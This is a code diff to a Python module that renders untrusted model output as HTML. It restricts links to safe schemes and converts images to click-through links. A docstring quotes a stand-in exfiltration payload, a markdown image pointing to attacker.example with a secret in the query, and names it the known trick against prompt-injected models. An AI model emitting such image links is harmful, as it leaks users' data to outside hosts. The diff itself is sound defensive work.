@@ -8,8 +8,8 @@ three modes. Shared by the notebook output (collapsible) and the exporters (any 
 * ``strip``: the answer only.
 
 Model text is untrusted: markdown is rendered with raw HTML disabled (so ``<script>`` arrives as
-text), markdown-it's link check drops ``javascript:``/``data:`` links, and every other string is
-escaped.
+text), links are kept only for http, https, mailto and in-page anchors, images become links
+(nothing loads by itself), and every other string is escaped.
 """
 
 from __future__ import annotations
@@ -21,7 +21,7 @@ from typing import TYPE_CHECKING
 from markdown_it import MarkdownIt
 
 from .core.tokens import reasoning_tokens
-from .markdown_safety import html_block, is_inert, md_escape, one_line
+from .markdown_safety import SAFE_LINK, html_block, is_inert, md_escape, one_line
 
 if TYPE_CHECKING:
     from .core.trace import Trace
@@ -29,11 +29,27 @@ if TYPE_CHECKING:
 CSS_CLASS = "reasoning-nb"
 
 
+def _safe_link(url: str) -> bool:
+    """Any other link stays visible as the markdown text it was."""
+    return SAFE_LINK.match(url.strip()) is not None
+
+
+def _image_as_link(renderer, tokens, idx, options, env) -> str:
+    """A remote image would load by itself (``![x](https://attacker.example/?q=SECRET)`` is the
+    known exfiltration trick for prompt-injected models): it becomes a link to click instead."""
+    token = tokens[idx]
+    src = html.escape(token.attrGet("src") or "")
+    alt = html.escape(renderer.renderInlineAsText(token.children or [], options, env)) or src
+    return f'<a href="{src}" rel="nofollow noopener noreferrer">image: {alt}</a>'
+
+
 @lru_cache(maxsize=4)
 def _md(breaks: bool, highlight: bool) -> MarkdownIt:
     options = {"html": False, "breaks": breaks, "highlight": _highlight if highlight else None}
     md = MarkdownIt("commonmark", options)
     md.enable(["table", "strikethrough"])
+    md.validateLink = _safe_link
+    md.add_render_rule("image", _image_as_link)
     return md
 
 
